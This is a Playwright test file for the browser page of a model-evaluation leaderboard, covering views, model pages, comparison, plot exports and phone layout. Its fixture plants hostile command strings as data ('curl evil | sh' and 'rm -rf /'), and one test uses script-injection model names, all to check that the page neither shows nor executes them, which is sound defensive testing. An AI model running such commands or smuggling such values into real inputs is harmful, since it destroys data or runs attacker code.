"""The page in headless Chromium: categories, a model's own page, comparing, plots to take along, a phone."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from hf_evaluation.scores.benchmarks import catalogue
from tests.board.pages import ROWS, column, heads, names, query, sort
from tests.board.support import board_of, build_site
from tests.browser import Watch, accessibility_findings
from tests.survey_files import gap, lines, model, score

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

KNOWN = {benchmark.id: benchmark for benchmark in catalogue().benchmarks}
CARD = {"kind": "readme", "status": "unpublished"}
CONTRADICTED = {
    "what": "value",
    "value": 71.2,
    "raw": "71.2",
    "text": "the card prints 71.2 (line 41), not 70.1",
    "url": "https://huggingface.co/acme/Crane-7B/blob/main/README.md?code=true#L41",
}


def crane() -> dict[str, Any]:
    """A model with everything that its page can show."""
    name = "acme/Crane-7B"
    proposed = {"status": "pull-request", "pr": 7, "kind": "eval-results", "method": {"pr_author": "bob"},
                "url": None, "name": None}  # fmt: skip
    scores = (
        score(
            "mmlu", 70.1, stderr=0.4, samples=14042, date="2026-05-01", url=f"https://huggingface.co/{name}"
        ),
        score("mmlu", 71.2, **CARD, table=1, row=2, column=3, line=41),
        score("gsm8k", 80.0, variant="5-shot, thinking", **CARD),
        score("gsm8k", 60.0, variant="0-shot, non-thinking", **CARD),
        score("humaneval", 55.5, variant="0-shot"),
        score("mbpp", 50.0, **proposed),
        score(None, 3.0, benchmark="Home-made"),
    )
    gaps = [
        gap("bbh", "to_measure", name, benchmark="BIG-Bench Hard", task="bbh", command="curl evil | sh"),
        gap("gsm8k", "in_readme", name, value=80.0, command="rm -rf /"),
    ]
    made = model(name, *scores, gaps=gaps, pipeline_tag="text-generation", kind="finetune",
                 base_models=["acme/Crane-7B-Base"], parameters=7_000_000_000)  # fmt: skip
    made["scores"][0]["contradicted_by"] = [CONTRADICTED]
    return made


def flock() -> str:
    """A survey of several kinds of models."""
    text, speech = {"pipeline_tag": "text-generation"}, {"pipeline_tag": "automatic-speech-recognition"}
    copied = "boreal/Dove-8B-GGUF"
    return lines(
        [
            crane(),
            model("acme/Crane-7B-Base", score("mmlu", 66.0), kind="base", **text, parameters=7_000_000_000),
            model("boreal/Dove-8B", score("mmlu", 70.1), score("gsm8k", 75.0, variant="5-shot, thinking"),
                  score("humaneval", 60.0, variant="10-shot"), score("lmarena", 1250.0, unit="elo"),
                  kind="instruct", **text, license="mit", created_at="2026-05-01T00:00:00Z"),
            model("boreal/Dove-70B", score("mmlu", 84.0), score("humaneval", 88.0),
                  kind="instruct", **text, license="llama3.1", parameters=70_000_000_000),
            model(copied, kind="quantized", base_models=["boreal/Dove-8B"], **text,
                  gaps=[gap("bbh", "to_measure", copied, benchmark="BIG-Bench Hard", task="bbh")]),
            model("delta/Wren-asr", score("librispeech_test_clean", 2.1, metric="wer"),
                  kind=None, **speech, parameters=600_000_000),
        ]
    )  # fmt: skip


@pytest.fixture(scope="module")
def flock_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of `flock`."""
    return build_site(tmp_path_factory.mktemp("flock"), flock(), benchmarks=KNOWN, title="Birds")


@pytest.fixture
def birds(context: BrowserContext, flock_site: Path) -> Iterator[Page]:
    """The page of `flock`, watched."""
    page = context.new_page()
    watch = Watch("file://")
    watch.on(page)
    page.goto(flock_site.as_uri())
    yield page
    watch.assert_quiet()


def test_each_category_is_a_view_with_its_most_reported_columns_and_coverage(birds: Page) -> None:
    chips = birds.locator("#views button:visible").all_inner_texts()
    assert chips == [
        "Overview", "Knowledge", "Maths", "Code", "Instructions", "Speech", "The five",
    ]  # fmt: skip
    birds.click("#views button:text-is('Code')")
    assert query(birds) == {"view": "code"}
    assert [name for name in heads(birds) if name in KNOWN] == ["humaneval", "mbpp"]
    assert names(birds) == ["boreal/Dove-70B", "boreal/Dove-8B", "acme/Crane-7B"], "sorted, without the empty"
    assert "3 of 4" in birds.inner_text('#board th[data-id="humaneval"]'), "not of the ASR model or the copy"
    assert "3 of 6 models have a score here" in birds.inner_text("#board caption")
    birds.click("text=Show the 3 without a score here")
    assert len(names(birds)) == 6
    birds.click("#views button:text-is('The five')")
    assert [name for name in heads(birds) if name in KNOWN] == ["mmlu"]
    places = birds.locator("#board .place").all_inner_texts()
    assert places[:4] == ["1", "2=", "2=", "4"], "equal values are tied"


def test_the_picker_finds_and_takes_columns(birds: Page) -> None:
    birds.click("#menu-cols > summary")
    groups = birds.locator("#menu-cols fieldset:visible legend").all_inner_texts()
    assert [text.split()[0] for text in groups] == ["Knowledge", "Maths", "Code", "Instructions", "Speech"]
    birds.fill("#find-column", "human")
    assert birds.locator("#menu-cols label:visible").count() == 1
    birds.click("#menu-cols button:text-is('None')")
    birds.check('#menu-cols input[value="humaneval"]')
    assert query(birds)["cols"] == "humaneval"
    assert names(birds)[0] == "boreal/Dove-70B"
    birds.click("#menu-cols button:text-is('Most reported')")
    assert heads(birds).count("mmlu") == 1
    birds.keyboard.press("Escape")
    birds.click("#views button:has-text('Your choice')")
    assert "cols" not in query(birds)


def test_cells_show_reach_error_rank_and_contradiction(birds: Page) -> None:
    cell = birds.locator('tr[data-model="acme/Crane-7B"] .cell[data-column]').first
    assert "±0.4" in cell.inner_text()
    assert "!" in cell.locator(".badge").inner_text()
    label = cell.get_attribute("aria-label") or ""
    assert "rank 2= of 4" in label
    assert "the model's card says otherwise" in label
    reach = "td => getComputedStyle(td.closest('td')).backgroundSize"
    assert cell.evaluate(reach).startswith("70.1%")
    cell.click()
    text = birds.inner_text("#dialog")
    assert "the card prints 71.2 (line 41), not 70.1" in text
    assert "±0.4 (95%: 69.32 to 70.88)" in text


def test_a_model_has_a_page_of_its_own(birds: Page) -> None:
    birds.click('tr[data-model="acme/Crane-7B"] th a')
    assert birds.evaluate("location.hash") == "#model=acme/Crane-7B"
    assert birds.title() == "acme/Crane-7B · Birds"
    assert not birds.is_visible("#controls")
    text = birds.inner_text("#panel-model")
    for piece in (
        "Fine-tuned from its own base acme/Crane-7B-Base", "finetune of own base",
        "The card says otherwise (1)", "the card prints 71.2 (line 41), not 70.1",
        "Reports that disagree (1)", "MMLU: 70.1 / 71.2", "of the same measurement",
        "6 measurements in 4 benchmark tasks", "thinking", "0-shot", "table 1, row 2, column 3, line 41",
        "Open pull requests (1)", "#7", "MBPP 50.0", "third party: bob", "2= of 4", "2026-05-01",
        "1 score left out", "boreal/Dove-8B",
    ):  # fmt: skip
        assert piece in text, piece
    rows = birds.locator("#panel-model .dense tbody tr")
    assert rows.count() == 6
    commands = birds.locator("#panel-model code").all_inner_texts()
    assert not [text for text in commands if "evil" in text or "rm " in text], "a survey's file is no command"
    jobs = "uv run --no-config scripts/eval_jobs.py submit --model acme/Crane-7B --task"
    assert f"{jobs} bbh" in commands
    assert (
        "uv run --no-config scripts/evaluation_manager.py extract-readme --repo-id acme/Crane-7B "
        "--benchmark gsm8k "
        "--create-pr"
    ) in commands
    assert not any("librispeech" in text for text in commands), "nothing that its kind is not for"
    birds.click("text=← All models")
    assert birds.evaluate("location.hash") == ""
    birds.wait_for_selector("#board")  # the page hears of the address after the click
    birds.go_back()
    birds.wait_for_selector("#panel-model h2")
    birds.click("#panel-model button:text-is('Compare') >> nth=1")
    assert query(birds)["tab"] == "compare"
    assert query(birds)["pick"].startswith("acme/Crane-7B,")


def test_a_link_to_a_model_opens_it_and_an_unknown_one_says_so(
    context: BrowserContext, flock_site: Path
) -> None:
    page = context.new_page()
    page.goto(f"{flock_site.as_uri()}?view=code#model=boreal/Dove-8B-GGUF")
    text = page.inner_text("#panel-model")
    assert "Quantised from boreal/Dove-8B" in text
    assert "Nothing is asked of a copy" in text
    page.goto(f"{flock_site.as_uri()}#model=%3Cb%3Enobody")
    assert "is not on this board" in page.inner_text("#panel-model")
    page.goto(f"{flock_site.as_uri()}#model=%zz")
    assert page.is_visible("#panel-model h2")


def test_only_what_can_be_compared_is_compared(birds: Page) -> None:
    birds.goto(birds.url + "?tab=compare&pick=acme/Crane-7B,boreal/Dove-8B")
    alike = birds.locator("#panel-compare > .sheet >> nth=0")
    found = {
        line.locator("th").inner_text(): line.locator("td").all_inner_texts()
        for line in alike.locator("tbody tr").all()
    }
    assert set(found) == {"MMLU", "GSM8K"}
    assert found["GSM8K"][0].startswith("80.0\n5-shot, thinking")
    assert found["GSM8K"][1].startswith("75.0 −5 worse\n5-shot, thinking")
    other = birds.inner_text("#panel-compare > .sheet >> nth=1")
    assert "HumanEval" in other
    assert "shots: 0-shot / 10-shot" in other
    assert "2 tasks that some of them lack" in birds.inner_text("#panel-compare")


def test_a_report_that_is_not_the_ranked_one_is_taken_where_it_is_the_comparable_one(
    context: BrowserContext, tmp_path: Path
) -> None:
    text = lines(
        [
            model("a/one", score("gsm8k", 80.0, variant="thinking", **CARD),
                  score("gsm8k", 60.0, variant="non-thinking", **CARD)),
            model("b/two", score("gsm8k", 70.0, variant="non-thinking", **CARD)),
            *(model(f"c/{at}", score("gsm8k", 50.0, variant="thinking", **CARD)) for at in range(3)),
        ]
    )  # fmt: skip
    page = context.new_page()
    page.goto(build_site(tmp_path, text, benchmarks=KNOWN).as_uri() + "?tab=compare&pick=a/one,b/two")
    cells = page.locator("#panel-compare > .sheet td").all_inner_texts()
    assert cells[0].startswith("60.0")
    assert "80.0 is the ranked one" in cells[0]
    assert cells[1].startswith("70.0 +10 better")


def downloaded(page: Page, button: str) -> tuple[str, bytes]:
    """Name and content of what a button saves."""
    with page.expect_download() as waiting:
        page.click(button)
    return waiting.value.suggested_filename, Path(waiting.value.path()).read_bytes()


def test_a_plot_is_taken_along_with_title_date_and_source(birds: Page) -> None:
    birds.goto(birds.url + "?tab=plots&y=mmlu")
    name, data = downloaded(birds, "#save-svg")
    svg = data.decode()
    assert name == "mmlu-parameters.svg"
    for piece in (
        "MMLU against total parameters",
        "Source: “Birds”, 6 models, scanned 2026-11-23",
        "Dove-70B",
    ):
        assert piece in svg, piece
    assert "var(" not in svg
    assert "class=" not in svg
    name, data = downloaded(birds, "#save-png")
    assert name == "mmlu-parameters.png"
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    assert int.from_bytes(data[16:20]) == 2400
    assert len(data) > 20_000


def test_a_picture_is_xml_whatever_a_model_is_called(context: BrowserContext, tmp_path: Path) -> None:
    names = ("acme/</svg><script>x</script>", "acme/]]><![CDATA[x", "acme/a\x01b", "acme/\ufffe&#1;")
    text = lines([model(name, score("mmlu", 50.0 + at)) for at, name in enumerate(names)])
    page = context.new_page()
    page.goto(build_site(tmp_path, text, benchmarks=KNOWN).as_uri() + "?tab=plots&y=mmlu")
    tags, shown = context.new_page().evaluate(
        """(svg) => {
            const all = [...new DOMParser().parseFromString(svg, "image/svg+xml").querySelectorAll("*")];
            return [all.map((one) => one.localName), all[0].textContent];
        }""",
        downloaded(page, "#save-svg")[1].decode(),
    )
    assert set(tags) == {"svg", "path", "text", "title"}
    assert "acme/\ufffd&#1;" in shown


def test_labels_cover_no_point_and_no_other_label(context: BrowserContext, tmp_path: Path) -> None:
    crowd = [
        model(f"acme/crane-number-{at}", score("mmlu", 40 + at % 9 * 5 + at / 10),
              parameters=(7 + at % 4) * 1_000_000_000)
        for at in range(40)
    ]  # fmt: skip
    page = context.new_page()
    page.goto(build_site(tmp_path, lines(crowd), benchmarks=KNOWN).as_uri() + "?tab=plots")
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 800})
        page.goto(page.url)
        boxes = "all => all.map(node => node.getBoundingClientRect().toJSON())"
        labels = page.eval_on_selector_all(".plot .label", boxes)
        dots = page.eval_on_selector_all(".plot .dot", boxes)
        frame = page.locator(".plot").bounding_box()
        assert len(labels) >= 5
        assert frame is not None
        for at, box in enumerate(labels):
            assert frame["x"] <= box["left"]
            assert box["right"] <= frame["x"] + frame["width"]
            assert not [dot for dot in dots if overlap(box, centre(dot))], "a label covers a point"
            assert not [other for other in labels[at + 1 :] if overlap(shrunk(box), shrunk(other))]
        assert (
            page.eval_on_selector(".plot text", "text => parseFloat(getComputedStyle(text).fontSize)") >= 12
        )


def overlap(one: dict[str, float], other: dict[str, float]) -> bool:
    """Whether two boxes have something in common."""
    return (
        one["left"] < other["right"]
        and other["left"] < one["right"]
        and one["top"] < other["bottom"]
        and other["top"] < one["bottom"]
    )


def centre(box: dict[str, float]) -> dict[str, float]:
    """The middle of a mark."""
    x, y = (box["left"] + box["right"]) / 2, (box["top"] + box["bottom"]) / 2
    return {"left": x - 2, "right": x + 2, "top": y - 2, "bottom": y + 2}


def shrunk(box: dict[str, float]) -> dict[str, float]:
    """What letters fill of a text's box."""
    return {**box, "top": box["top"] + 3, "bottom": box["bottom"] - 3}


def test_csv_and_json_tell_settings_source_owner_and_conflict(birds: Page) -> None:
    _, data = downloaded(birds, "#csv")
    row = next(row for row in csv.DictReader(io.StringIO(data.decode())) if row["repo_id"] == "acme/Crane-7B")
    assert row["mmlu"] == "70.1"
    assert row["mmlu.stderr"] == "0.4"
    assert row["mmlu.who"] == "the authors (acme)"
    assert row["mmlu.conflict"] == "yes"
    assert row["mmlu.contradicted"] == "yes"
    assert row["mmlu.source"] == "https://huggingface.co/acme/Crane-7B"
    assert row["gsm8k.settings"] == "5-shot, thinking"
    assert row["gsm8k.mode"] == "thinking"
    told = json.loads(downloaded(birds, "#json")[1])
    cell = next(row for row in told["models"] if row["repo_id"] == "acme/Crane-7B")["scores"]["mmlu"]
    assert (cell["conflict"], cell["contradicted"], cell["reports"], cell["rank"]) == ("yes", True, 2, 2)


def test_contradictions_have_a_tab_only_where_there_are_any(birds: Page, tmp_path: Path) -> None:
    silent = birds.context.new_page()
    silent.goto(build_site(tmp_path, lines([model("acme/m", score("mmlu", 50.0))])).as_uri())
    assert silent.locator("#tab-contradictions").count() == 0
    birds.click("#tab-contradictions")
    text = birds.inner_text("#panel-contradictions tbody")
    assert "acme/Crane-7B" in text
    assert "the card prints 71.2 (line 41), not 70.1" in text
    assert "another value" in text


def test_gaps_are_of_models_that_the_benchmark_is_for(birds: Page) -> None:
    document = board_of(flock(), benchmarks=KNOWN)
    fits = {item["id"]: item["fits"] for item in document["benchmarks"]}
    assert fits["mmlu"] == 4, "neither the speech model nor the quantised copy"
    assert fits["librispeech_test_clean"] == 1
    assert birds.inner_text("#tab-gaps") == "Gaps (2)", "the copy's is no gap, in the count as in the list"
    birds.click("#tab-gaps")
    assert "1 of 1 trending models that it is for publish no result for BIG-Bench Hard" in birds.inner_text(
        "#panel-gaps"
    )


def test_filters_tell_what_is_on_and_open_licences_are_one_choice(birds: Page) -> None:
    birds.fill("#max", "10")
    birds.click("#menu-licence > summary")
    birds.check('#menu-licence input[value="open"]')
    birds.keyboard.press("Escape")
    assert birds.locator("#active .chip").all_inner_texts() == ["up to 10B ×", "licence: open ×"]
    assert "boreal/Dove-70B" not in names(birds)
    birds.click("#active .chip >> nth=0")
    assert query(birds) == {"licence": "open"}
    birds.click("#reset")
    assert query(birds) == {}


def test_elo_never_stands_in_a_column_of_accuracy(birds: Page) -> None:
    birds.click("#views button:text-is('Instructions')")
    assert "Elo" in birds.inner_text('#board th[data-id^="lmarena"]') or "elo" in birds.inner_text(
        '#board th[data-id^="lmarena"]'
    )
    assert column(birds, heads(birds)[heads(birds).index("coverage") + 1]) == ["1250.0"]


@pytest.fixture
def phone(browser: Browser, flock_site: Path) -> Iterator[Page]:
    """The page of `flock` on a phone, watched."""
    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True)
    page = context.new_page()
    watch = Watch("file://")
    watch.on(page)
    page.goto(flock_site.as_uri())
    yield page
    watch.assert_quiet()
    context.close()


def test_a_phone_shows_names_and_one_chosen_score_at_once(phone: Page) -> None:
    for at in range(3):
        name = phone.locator(f"{ROWS} th a").nth(at).bounding_box()
        value = phone.locator(ROWS).nth(at).locator("td.score .cell").first
        box = value.bounding_box()
        assert name is not None and box is not None
        assert name["y"] + name["height"] < 844
        assert box["x"] + box["width"] <= 390
    phone.select_option("#view", "code")
    phone.select_option("#sort-by", "mbpp")
    assert names(phone)[0] == "acme/Crane-7B"
    assert heads(phone)[1] == "mbpp", "the chosen score stands beside the name"
    assert sort(phone, "mbpp") == "ascending"
    phone.click("#filters")
    phone.fill("#max", "8")
    assert phone.inner_text("#filters") == "Filters (1)"
    for menu in ("cols", "licence", "hide"):
        phone.click(f"#menu-{menu} > summary")
        box = phone.locator(f"#menu-{menu} .pop").bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 390
        phone.keyboard.press("Escape")


def test_a_phone_shows_every_view_within_its_width(phone: Page) -> None:
    address = phone.url
    for words in (
        "#model=acme/Crane-7B", "?tab=compare&pick=acme/Crane-7B,boreal/Dove-8B", "?tab=contradictions",
        "?tab=conflicts", "?tab=plots",
    ):  # fmt: skip
        phone.goto("about:blank")
        phone.goto(address + words)
        assert phone.evaluate("document.documentElement.scrollWidth") <= 390, words
        inner = "all => all.map(node => node.scrollWidth - node.clientWidth)"
        assert max(phone.eval_on_selector_all(".sheet:visible", inner) or [0]) <= 0, words


def test_names_wrap_and_are_never_cut_to_the_same_text(context: BrowserContext, tmp_path: Path) -> None:
    long = "acme/An-Uncommonly-Long-Name-Of-A-Model-That-Goes-On-And-On-"
    text = lines([model(f"{long}{end}", score("mmlu", 50.0)) for end in ("Base", "Instruct")])
    page = context.new_page()
    page.goto(build_site(tmp_path, text).as_uri())
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 800})
        cut = page.eval_on_selector_all(
            f"{ROWS} th", "all => all.filter(head => head.scrollWidth > head.clientWidth + 1).length"
        )
        assert cut == 0
        shown = page.locator(f"{ROWS} th a").all_inner_texts()
        assert [re.sub(r"\s", "", name) for name in shown] == names(page)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious_in_the_new_views(browser: Browser, flock_site: Path, scheme: Any) -> None:
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    findings = []
    for words in (
        "#model=acme/Crane-7B", "?tab=compare&pick=acme/Crane-7B,boreal/Dove-8B", "?view=code&max=10",
    ):  # fmt: skip
        page.goto("about:blank")
        page.goto(flock_site.as_uri() + words)
        findings += [f"{words}: {found}" for found in accessibility_findings(page)]
    assert findings == []
    context.close()
